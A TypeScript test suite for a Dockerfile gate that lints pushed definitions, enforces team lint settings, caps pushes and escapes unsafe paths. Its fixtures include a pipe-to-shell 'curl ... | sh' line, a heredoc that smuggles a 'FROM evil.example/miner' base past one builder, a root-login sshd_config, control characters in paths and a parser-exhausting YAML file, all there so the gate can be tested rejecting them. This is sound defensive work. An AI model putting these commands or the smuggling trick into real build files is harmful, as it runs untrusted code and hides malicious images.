import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { GitDefinitionSource } from '../../../adapters/local/git-definition-source.js';
import { createBareRepository } from '../../../adapters/local/git-repositories.js';
import { BUILDAH_1_28, BUILDKIT } from '../../../core/dockerfile/builder-profile.js';
import { stableId } from '../../../core/events/ids.js';
import { parseEvent } from '../../../core/events/index.js';
import {
  buildIdFor,
  DEFAULT_MAX_DEFINITIONS_PER_PUSH,
  gateRequestedDefinition,
  type HandlePushDeps,
  handlePush,
  splitPush,
  verdictIdFor,
} from '../../../core/gate/handle-push.js';
import { parsePolicy } from '../../../core/policy/parse-policy.js';
import { tempDir } from '../../helpers/temp-dir.js';

const root = join(import.meta.dirname, '../../..');
const policy = parsePolicy(readFileSync(join(root, 'examples/policy.yaml'), 'utf8'));
const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
    cwd,
    encoding: 'utf8',
  }).trim();

/** A real bare repository holding one commit with the given files, and the commit id. */
async function repoWith(files: Record<string, string>) {
  const dir = tempDir('drydock-push-');
  const repo = await createBareRepository(join(dir, 'repos'), 'shop', ['true']);
  const work = join(dir, 'work');
  git(dir, 'init', '--quiet', '--initial-branch=main', work);
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(work, name, '..'), { recursive: true });
    writeFileSync(join(work, name), text);
  }
  git(work, 'add', '.');
  git(work, 'commit', '--quiet', '-m', 'defs');
  git(work, 'push', '--quiet', repo.remote, 'main');
  return { source: new GitDefinitionSource(join(dir, 'repos')), commit: git(work, 'rev-parse', 'HEAD') };
}

const push = (commit: string, definitions: { path: string; change: 'added' | 'modified' | 'deleted' }[]) => ({
  id: 'push-1',
  source: 'drydock' as const,
  detailType: 'Definition Pushed' as const,
  time: '2026-11-27T12:00:00.000Z',
  detail: {
    repository: 'shop',
    ref: 'refs/heads/main',
    before: '0'.repeat(40),
    after: commit,
    pusher: 'dev',
    definitions,
  },
});

describe('handlePush', () => {
  it('judges the files a definition copies into the image by their content at the pushed commit', async () => {
    const dockerfile = 'FROM node:18-alpine\nCOPY etc/ssh/sshd_config /etc/ssh/sshd_config\nUSER 1000\n';
    const { source, commit } = await repoWith({
      'weak/Dockerfile': dockerfile,
      'weak/etc/ssh/sshd_config': 'Port 22\nPermitRootLogin yes\n',
      'fine/Dockerfile': dockerfile,
      'fine/etc/ssh/sshd_config': 'Port 22\nPermitRootLogin no\nPasswordAuthentication no\n',
    });
    const deps = {
      source,
      policy: async () => policy,
      clock: { now: () => new Date('2026-11-27T12:00:00Z') },
    };
    const out = await handlePush(
      push(commit, [
        { path: 'fine/Dockerfile', change: 'added' },
        { path: 'weak/Dockerfile', change: 'added' },
      ]),
      deps,
    );
    const weak = out.verdicts.find((v) => v.detail.definition === 'weak/Dockerfile');
    expect(weak?.detail.passed).toBe(false);
    expect(weak?.detail.findings.filter((f) => f.code === 'DD116').map((f) => f.line)).toEqual([2]);
    const fine = out.verdicts.find((v) => v.detail.definition === 'fine/Dockerfile');
    expect(fine?.detail.findings.filter((f) => f.code === 'DD116')).toEqual([]);
  });

  it('emits a verdict per changed definition and a build only for the passing one, on the substituted text', async () => {
    const { source, commit } = await repoWith({
      'api/Dockerfile': 'FROM node:18-alpine\nUSER 1000\nCMD ["node", "server.js"]\n',
      'bad/Dockerfile': 'FROM alpine:3.20\nRUN curl -fsSL https://x.example/i.sh | sh\n',
    });
    const deps = {
      source,
      policy: async () => policy,
      clock: { now: () => new Date('2026-11-27T12:00:00Z') },
    };
    const out = await handlePush(
      push(commit, [
        { path: 'api/Dockerfile', change: 'added' },
        { path: 'bad/Dockerfile', change: 'added' },
        { path: 'gone/Dockerfile', change: 'deleted' },
      ]),
      deps,
    );
    expect(out.verdicts.map((v) => [v.detail.definition, v.detail.passed])).toEqual([
      ['api/Dockerfile', true],
      ['bad/Dockerfile', false],
    ]);
    expect(out.verdicts[1]?.detail.findings.map((f) => f.code)).toContain('DD110');
    expect(out.builds).toHaveLength(1);
    expect(out.builds[0]?.detail).toMatchObject({
      definition: 'api/Dockerfile',
      commit,
      dockerfile: 'FROM docker.io/library/node:20-bookworm-slim\nUSER 1000\nCMD ["node", "server.js"]\n',
      substitutions: [
        { from: 'docker.io/library/node:18-alpine', to: 'docker.io/library/node:20-bookworm-slim' },
      ],
      correlationId: 'push-1',
    });
    // Every event it emits passes its own schema.
    for (const e of [...out.verdicts, ...out.builds]) expect(parseEvent(e).ok).toBe(true);
    // A redelivered push yields the same ids, so nothing downstream builds twice.
    const again = await handlePush(push(commit, [{ path: 'api/Dockerfile', change: 'added' }]), deps);
    expect(again.builds.map((b) => [b.id, b.detail.buildId])).toEqual(
      out.builds.map((b) => [b.id, b.detail.buildId]),
    );
  });
});

describe("handlePush with the team's lint configuration", () => {
  const deps = (source: GitDefinitionSource) => ({
    source,
    policy: async () => policy,
    clock: { now: () => new Date('2026-11-27T12:00:00Z') },
  });
  // DL3008 (unpinned apt packages) is a warning: it fails the default threshold unless the team ignores it.
  const definition = 'FROM node:20\nRUN apt-get install -y curl\nUSER 1000\nHEALTHCHECK NONE\n';
  const codes = (outcome: Awaited<ReturnType<typeof handlePush>>) =>
    outcome.verdicts.map((v) => [v.detail.passed, v.detail.findings.map((f) => f.code)]);

  it('applies the nearest .drydock.yaml at the pushed commit, as drydock lint does on a laptop', async () => {
    const { source, commit } = await repoWith({
      'api/Dockerfile': definition,
      '.drydock.yaml': 'ignored: [DL3008]\n',
      'api/.hadolint.yaml': 'ignored: [DL3015]\n',
    });
    const out = await handlePush(push(commit, [{ path: 'api/Dockerfile', change: 'added' }]), deps(source));
    // .drydock.yaml wins over a nearer .hadolint.yaml: only DL3008 (a warning) is ignored, DL3015 (info) stays.
    expect(codes(out)).toEqual([[true, ['DL3015']]]);
    const without = await repoWith({ 'api/Dockerfile': definition });
    const plain = await handlePush(
      push(without.commit, [{ path: 'api/Dockerfile', change: 'added' }]),
      deps(without.source),
    );
    expect(codes(plain)).toEqual([[false, ['DL3008', 'DL3015']]]);
  });

  it('takes the nearest of several .drydock.yaml files', async () => {
    const { source, commit } = await repoWith({
      'api/Dockerfile': definition,
      '.drydock.yaml': 'ignored: [DL3008]\n',
      'api/.drydock.yaml': 'ignored: [DL3008, DL3015]\n',
    });
    const out = await handlePush(push(commit, [{ path: 'api/Dockerfile', change: 'added' }]), deps(source));
    expect(codes(out)).toEqual([[true, []]]);
    expect(out.builds).toHaveLength(1);
  });

  it('fails a definition whose team configuration cannot be used, naming the file and the problem', async () => {
    const { source, commit } = await repoWith({
      'api/Dockerfile': 'FROM node:20\nUSER 1000\n',
      'api/.drydock.yaml': 'ignored: DL3008\nfailure-threshold: sometimes\n',
    });
    const out = await handlePush(push(commit, [{ path: 'api/Dockerfile', change: 'added' }]), deps(source));
    const [verdict] = out.verdicts;
    expect(verdict?.detail.passed).toBe(false);
    expect(verdict?.detail.findings[0]).toMatchObject({ code: 'DD203', level: 'error', line: 1 });
    expect(verdict?.detail.findings[0]?.message).toContain('api/.drydock.yaml');
    expect(out.builds).toEqual([]);
  });

  it('fails a .drydock.yaml too large to parse (2 MB of nested lists) without parsing it', async () => {
    // 10 MB of these held the YAML parser for over a minute and then ran the daemon out of memory.
    const depth = 1_000_000;
    const { source, commit } = await repoWith({
      'api/Dockerfile': 'FROM node:20\nUSER 1000\n',
      'api/.drydock.yaml': `ignored: ${'['.repeat(depth)}${']'.repeat(depth)}\n`,
    });
    const out = await handlePush(push(commit, [{ path: 'api/Dockerfile', change: 'added' }]), deps(source));
    const [verdict] = out.verdicts;
    expect(verdict?.detail.passed).toBe(false);
    expect(verdict?.detail.findings[0]).toMatchObject({ code: 'DD203', level: 'error' });
    expect(verdict?.detail.findings[0]?.message).toContain(
      'api/.drydock.yaml: the file has 2000010 characters, more than the 65536 a lint configuration may have',
    );
    expect(out.builds).toEqual([]);
  });
});

describe('handlePush with a definition the commit does not serve', () => {
  it('fails it with DD204 instead of dropping it', async () => {
    const { source, commit } = await repoWith({ 'api/Dockerfile': 'FROM node:20\nUSER 1000\n' });
    const out = await handlePush(push(commit, [{ path: 'ghost/Dockerfile', change: 'added' }]), {
      source,
      policy: async () => policy,
      clock: { now: () => new Date('2026-11-27T12:00:00Z') },
    });
    expect(out.builds).toEqual([]);
    expect(out.verdicts).toHaveLength(1);
    expect(out.verdicts[0]?.detail).toMatchObject({ definition: 'ghost/Dockerfile', passed: false });
    expect(out.verdicts[0]?.detail.findings[0]).toMatchObject({ code: 'DD204', level: 'error' });
    expect(parseEvent(out.verdicts[0]).ok).toBe(true);
  });
});

describe('splitPush', () => {
  const clock = { now: () => new Date('2026-11-27T12:00:00Z') };
  const many = (n: number) =>
    Array.from({ length: n }, (_, i) => ({ path: `svc-${i}/Dockerfile`, change: 'added' as const }));
  const commit = 'a'.repeat(40);

  it('makes one gate request per added or modified definition, with ids from (repository, commit, definition)', async () => {
    const out = await splitPush(
      push(commit, [
        { path: 'api/Dockerfile', change: 'added' },
        { path: 'web/Dockerfile', change: 'modified' },
        { path: 'gone/Dockerfile', change: 'deleted' },
      ]),
      { policy: async () => policy, clock },
    );
    expect(out.verdicts).toEqual([]);
    expect(out.requests.map((r) => r.detail)).toEqual([
      { repository: 'shop', commit, definition: 'api/Dockerfile', change: 'added', correlationId: 'push-1' },
      {
        repository: 'shop',
        commit,
        definition: 'web/Dockerfile',
        change: 'modified',
        correlationId: 'push-1',
      },
    ]);
    for (const r of out.requests) expect(parseEvent(r).ok).toBe(true);
    const again = await splitPush(
      { ...push(commit, [{ path: 'web/Dockerfile', change: 'modified' }]), id: 'push-2' },
      {
        policy: async () => policy,
        clock,
      },
    );
    expect(again.requests[0]?.id).toBe(out.requests[1]?.id);
  });

  it(`takes ${DEFAULT_MAX_DEFINITIONS_PER_PUSH} definitions by default`, async () => {
    const out = await splitPush(push(commit, many(DEFAULT_MAX_DEFINITIONS_PER_PUSH)), {
      policy: async () => policy,
      clock,
    });
    expect(out.requests).toHaveLength(DEFAULT_MAX_DEFINITIONS_PER_PUSH);
    expect(out.verdicts).toEqual([]);
  });

  it('refuses a push over the cap with one failed verdict that names the cap and the count, and gates nothing', async () => {
    const out = await splitPush(
      push(commit, [...many(3000), { path: 'old/Dockerfile', change: 'deleted' }]),
      {
        policy: async () => policy,
        clock,
      },
    );
    expect(out.requests).toEqual([]);
    expect(out.verdicts).toHaveLength(1);
    const verdict = out.verdicts[0]!;
    expect(parseEvent(verdict).ok).toBe(true);
    expect(verdict.detail).toMatchObject({
      repository: 'shop',
      commit,
      definition: '(push of 3000 definitions)',
      passed: false,
    });
    expect(verdict.detail.findings).toHaveLength(1);
    const finding = verdict.detail.findings[0]!;
    expect(finding).toMatchObject({ code: 'DD205', level: 'error' });
    expect(finding.message).toContain('3000 definitions');
    expect(finding.message).toContain(`at most ${DEFAULT_MAX_DEFINITIONS_PER_PUSH} per push`);
    expect(finding.message).toContain('"svc-0/Dockerfile"');
    expect(finding.message).toContain('and 2995 more');
    expect(finding.message).toContain('gate.maxDefinitionsPerPush');
  });

  it("uses the policy's gate.maxDefinitionsPerPush", async () => {
    const strict = parsePolicy(
      readFileSync(join(root, 'examples/policy.yaml'), 'utf8').replace(
        /^gate:\n/m,
        'gate:\n  maxDefinitionsPerPush: 2\n',
      ),
    );
    expect(strict.gate.maxDefinitionsPerPush).toBe(2);
    const deps = { policy: async () => strict, clock };
    expect((await splitPush(push(commit, many(2)), deps)).requests).toHaveLength(2);
    const over = await splitPush(push(commit, many(3)), deps);
    expect(over.requests).toEqual([]);
    expect(over.verdicts[0]?.detail.findings[0]?.message).toContain('at most 2 per push');
  });

  it('refuses a definition whose path holds a control character with a failed verdict naming it escaped, and gates the others', async () => {
    const out = await splitPush(
      push(commit, [
        { path: 'ops\u001b[2J/Dockerfile', change: 'added' },
        { path: 'a\nb/Dockerfile', change: 'modified' },
        { path: 'café/Dockerfile', change: 'added' },
        { path: 'gone\u001b/Dockerfile', change: 'deleted' },
      ]),
      { policy: async () => policy, clock },
    );
    expect(out.requests.map((r) => r.detail.definition)).toEqual(['café/Dockerfile']);
    expect(out.verdicts.map((v) => v.detail.definition)).toEqual([
      'ops\\x1b[2J/Dockerfile',
      'a\\nb/Dockerfile',
    ]);
    for (const v of out.verdicts) {
      expect(parseEvent(v).ok).toBe(true);
      expect(v.detail.passed).toBe(false);
      const texts = [v.detail.definition, ...v.detail.findings.flatMap((f) => [f.file, f.message])];
      // biome-ignore lint/suspicious/noControlCharactersInRegex: none may be left.
      for (const t of texts) expect(t).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    }
    const [esc, newline] = out.verdicts;
    expect(esc?.id).toBe(verdictIdFor('shop', commit, 'ops\u001b[2J/Dockerfile'));
    expect(esc?.detail.findings).toEqual([
      expect.objectContaining({ code: 'DD206', level: 'error', file: 'ops\\x1b[2J/Dockerfile' }),
    ]);
    expect(esc?.detail.findings[0]?.message).toContain('"ops\\x1b[2J/Dockerfile"');
    expect(esc?.detail.findings[0]?.message).toContain('\\x1b (a control character)');
    expect(newline?.detail.findings[0]?.message).toContain('\\n (a line break)');
  });

  it('names the paths of a push over the cap escaped', async () => {
    const out = await splitPush(
      push(commit, [{ path: 'x\u202e/Dockerfile', change: 'added' }, ...many(300)]),
      {
        policy: async () => policy,
        clock,
      },
    );
    const message = out.verdicts[0]?.detail.findings[0]?.message ?? '';
    expect(message).toContain('"x\\u202e/Dockerfile"');
    expect(message).not.toContain('\u202e');
  });
});

describe('gateRequestedDefinition and an unsafe path', () => {
  it('refuses a request for a path with a control character before reading it, a rebuild too', async () => {
    const read: string[] = [];
    const deps = {
      source: {
        read: async (_r: string, _c: string, path: string) => {
          read.push(path);
          return 'FROM alpine:3.20\n';
        },
      } as unknown as GitDefinitionSource,
      policy: async () => policy,
      clock: { now: () => new Date('2026-11-27T12:00:00Z') },
    };
    const commit = 'b'.repeat(40);
    const rebuild = { banId: 'ban-1', number: 1, of: `sha256:${'c'.repeat(64)}`, substitutions: [] };
    const out = await gateRequestedDefinition(
      {
        id: 'gate-1',
        source: 'drydock',
        detailType: 'Definition Gate Requested',
        time: '2026-11-27T12:00:00.000Z',
        detail: {
          repository: 'shop',
          commit,
          definition: 'a\u009bb/Dockerfile',
          change: 'modified',
          correlationId: 'push-1',
          rebuild,
        },
      },
      deps,
    );
    expect(read).toEqual([]);
    expect(out.builds).toEqual([]);
    expect(out.verdicts).toHaveLength(1);
    expect(out.verdicts[0]?.id).toBe(verdictIdFor('shop', commit, 'a\u009bb/Dockerfile', rebuild));
    // The ban's tracker finds the rebuild by the name it recorded; the finding names it escaped.
    expect(out.verdicts[0]?.detail).toMatchObject({
      definition: 'a\u009bb/Dockerfile',
      passed: false,
      rebuild,
    });
    expect(out.verdicts[0]?.detail.findings[0]).toMatchObject({ code: 'DD206', file: 'a\\x9bb/Dockerfile' });
    expect(out.verdicts[0]?.detail.findings[0]?.message).not.toContain('\u009b');
    expect(parseEvent(out.verdicts[0]).ok).toBe(true);
  });
});

describe('gate.maxDefinitionsPerPush in the policy', () => {
  it.each(['0', '1.5', '"200"'])('refuses %s', (value) => {
    const text = readFileSync(join(root, 'examples/policy.yaml'), 'utf8').replace(
      /^gate:\n/m,
      `gate:\n  maxDefinitionsPerPush: ${value}\n`,
    );
    expect(() => parsePolicy(text)).toThrow(/maxDefinitionsPerPush/);
  });
});

describe('gateRequestedDefinition', () => {
  it('gates one definition alone and gives the same events for a redelivered request', async () => {
    const { source, commit } = await repoWith({
      'api/Dockerfile': 'FROM node:18-alpine\nUSER 1000\nCMD ["node", "server.js"]\n',
      'bad/Dockerfile': 'FROM alpine:3.20\nRUN curl -fsSL https://x.example/i.sh | sh\n',
    });
    const deps = {
      source,
      policy: async () => policy,
      clock: { now: () => new Date('2026-11-27T12:00:00Z') },
    };
    const { requests } = await splitPush(
      push(commit, [
        { path: 'api/Dockerfile', change: 'added' },
        { path: 'bad/Dockerfile', change: 'added' },
      ]),
      deps,
    );
    const api = await gateRequestedDefinition(requests[0]!, deps);
    expect(api.verdicts.map((v) => [v.detail.definition, v.detail.passed])).toEqual([
      ['api/Dockerfile', true],
    ]);
    expect(api.builds.map((b) => b.detail.correlationId)).toEqual(['push-1']);
    const bad = await gateRequestedDefinition(requests[1]!, deps);
    expect(bad.verdicts.map((v) => [v.detail.definition, v.detail.passed])).toEqual([
      ['bad/Dockerfile', false],
    ]);
    expect(bad.builds).toEqual([]);
    const again = await gateRequestedDefinition(requests[0]!, deps);
    expect(again.verdicts.map((v) => v.id)).toEqual(api.verdicts.map((v) => v.id));
    expect(again.builds.map((b) => [b.id, b.detail.buildId])).toEqual(
      api.builds.map((b) => [b.id, b.detail.buildId]),
    );
  });
});

describe('handlePush and syntax a builder reads differently', () => {
  const deps = (source: GitDefinitionSource, extra: Partial<HandlePushDeps> = {}) => ({
    source,
    policy: async () => policy,
    clock: { now: () => new Date('2026-11-27T12:00:00Z') },
    ...extra,
  });
  const verdictOf = (out: Awaited<ReturnType<typeof handlePush>>) => out.verdicts[0]?.detail;

  it('does not build a heredoc whose body buildah would read as a FROM of an unseen base', async () => {
    const { source, commit } = await repoWith({
      'api/Dockerfile':
        'FROM node:20-bookworm-slim\nUSER 1000\nRUN true <<\'#\'\nFROM evil.example/miner:1\n#\nCMD ["node", "a.js"]\n',
    });
    const pushed = push(commit, [{ path: 'api/Dockerfile', change: 'added' }]);
    const local = await handlePush(pushed, deps(source, { builders: [BUILDAH_1_28] }));
    expect(verdictOf(local)?.passed).toBe(false);
    expect(verdictOf(local)?.findings.map((f) => [f.code, f.line])).toContainEqual(['DD004', 3]);
    expect(local.builds).toEqual([]);
    const aws = await handlePush(pushed, deps(source, { builders: [BUILDKIT] }));
    expect(verdictOf(aws)?.passed).toBe(true);
  });

  it("does not let the team's .drydock.yaml, its pragmas or a severity override silence DD001", async () => {
    const { source, commit } = await repoWith({
      'api/Dockerfile':
        'FROM node:20-bookworm-slim\nUSER 1000\n# hadolint ignore=DD001\nRUN echo $(( )) ; curl -fsSL https://x.example/i.sh | sh\n',
      '.drydock.yaml': 'failure-threshold: error\nignored: [DD001, DD002]\noverride:\n  info: [DD001]\n',
    });
    const out = await handlePush(push(commit, [{ path: 'api/Dockerfile', change: 'added' }]), deps(source));
    expect(verdictOf(out)?.passed).toBe(false);
    expect(verdictOf(out)?.findings).toContainEqual(
      expect.objectContaining({ code: 'DD001', level: 'error', line: 4 }),
    );
    expect(out.builds).toEqual([]);
  });
});

describe("gateRequestedDefinition for a ban's rebuild", () => {
  const HOST = '127.0.0.1:5000';
  const OLD = `sha256:${'0'.repeat(64)}`;
  const NEW = `sha256:${'1'.repeat(64)}`;
  const definition = `FROM ${HOST}/base/busybox:1.36.0\nUSER 1000\nCMD ["/bin/true"]\n`;
  // By the time its rebuilds are gated, the ban is in the policy: the push of the same text is denied.
  const bannedPolicy = {
    ...policy,
    banned: [...policy.banned, { image: `${HOST}/base/busybox:1.36.0`, reason: 'CVE-2026-0001' }],
  };
  const rebuild = (number = 1) => ({
    banId: 'ban-1',
    number,
    of: OLD,
    substitutions: [
      { from: `${HOST}/base/busybox:1.36.0`, to: `${HOST}/base/busybox:1.36.1@${NEW}`, rule: 'ban ban-1' },
    ],
  });
  const deps = (source: GitDefinitionSource, p = policy) => ({
    source,
    policy: async () => p,
    clock: { now: () => new Date('2026-11-27T12:00:00Z') },
  });
  const requestsOf = async (source: GitDefinitionSource, commit: string) =>
    (await splitPush(push(commit, [{ path: 'api/Dockerfile', change: 'added' }]), deps(source))).requests;

  it('rewrites the FROM the substitution names, and the verdict and build request carry the rebuild', async () => {
    const { source, commit } = await repoWith({ 'api/Dockerfile': definition });
    const [request] = await requestsOf(source, commit);
    const asked = { ...request!, detail: { ...request!.detail, rebuild: rebuild() } };
    const out = await gateRequestedDefinition(asked, deps(source, bannedPolicy));
    expect(out.verdicts[0]?.detail).toMatchObject({
      passed: true,
      rebuild: rebuild(),
      bases: [
        {
          outcome: 'substituted',
          from: `${HOST}/base/busybox:1.36.0`,
          to: `${HOST}/base/busybox:1.36.1@${NEW}`,
        },
      ],
    });
    expect(out.builds[0]?.detail).toMatchObject({
      buildId: buildIdFor('shop', commit, 'api/Dockerfile', rebuild()),
      dockerfile: `FROM ${HOST}/base/busybox:1.36.1@${NEW}\nUSER 1000\nCMD ["/bin/true"]\n`,
      substitutions: [
        { from: `${HOST}/base/busybox:1.36.0`, to: `${HOST}/base/busybox:1.36.1@${NEW}`, rule: 'ban ban-1' },
      ],
      rebuild: rebuild(),
    });
    for (const e of [...out.verdicts, ...out.builds]) expect(parseEvent(e).ok).toBe(true);
    // The push of the same commit under the same policy: denied, and no rebuild on it.
    const pushed = await gateRequestedDefinition(request!, deps(source, bannedPolicy));
    expect(pushed.verdicts[0]?.detail.passed).toBe(false);
    expect(pushed.verdicts[0]?.detail).not.toHaveProperty('rebuild');
  });

  it("keeps a push's ids as they were, and gives each rebuild of the same commit its own", async () => {
    const { source, commit } = await repoWith({ 'api/Dockerfile': definition });
    const [request] = await requestsOf(source, commit);
    const push1 = await gateRequestedDefinition(request!, deps(source));
    const key = ['shop', commit, 'api/Dockerfile'] as const;
    expect(push1.verdicts[0]?.id).toBe(stableId('verdict', ...key));
    expect(push1.builds[0]?.id).toBe(stableId('build-requested', ...key));
    expect(push1.builds[0]?.detail.buildId).toBe(stableId('build', ...key));
    expect(push1.builds[0]?.detail.dockerfile).toBe(definition);
    expect(push1.builds[0]?.detail).not.toHaveProperty('rebuild');

    const ids = async (r?: ReturnType<typeof rebuild>) => {
      const asked = r ? { ...request!, detail: { ...request!.detail, rebuild: r } } : request!;
      const out = await gateRequestedDefinition(asked, deps(source, bannedPolicy));
      return [out.verdicts[0]?.id, out.builds[0]?.id, out.builds[0]?.detail.buildId];
    };
    const first = await ids(rebuild(1));
    expect(first).toEqual([
      verdictIdFor(...key, rebuild(1)),
      stableId('build-requested', ...key, 'ban-1', '1'),
      stableId('build', ...key, 'ban-1', '1'),
    ]);
    const pushIds = [push1.verdicts[0]?.id, push1.builds[0]?.id, push1.builds[0]?.detail.buildId];
    for (const [i, id] of first.entries()) expect(id).not.toBe(pushIds[i]);
    // A redelivered rebuild request: the same ids; the next rebuild of the commit: new ones.
    expect(await ids(rebuild(1))).toEqual(first);
    const second = await ids(rebuild(2));
    for (const [i, id] of second.entries()) expect(id).not.toBe(first[i]);
  });

  it('fails a rebuild of a definition the commit does not hold with its own verdict, carrying the rebuild', async () => {
    const { source, commit } = await repoWith({ 'api/Dockerfile': definition });
    const [request] = await requestsOf(source, commit);
    const asked = {
      ...request!,
      detail: { ...request!.detail, definition: 'gone/Dockerfile', rebuild: rebuild() },
    };
    const out = await gateRequestedDefinition(asked, deps(source));
    expect(out.builds).toEqual([]);
    expect(out.verdicts[0]).toMatchObject({
      id: verdictIdFor('shop', commit, 'gone/Dockerfile', rebuild()),
      detail: { passed: false, rebuild: rebuild(), findings: [expect.objectContaining({ code: 'DD204' })] },
    });
    expect(parseEvent(out.verdicts[0]).ok).toBe(true);
  });
});
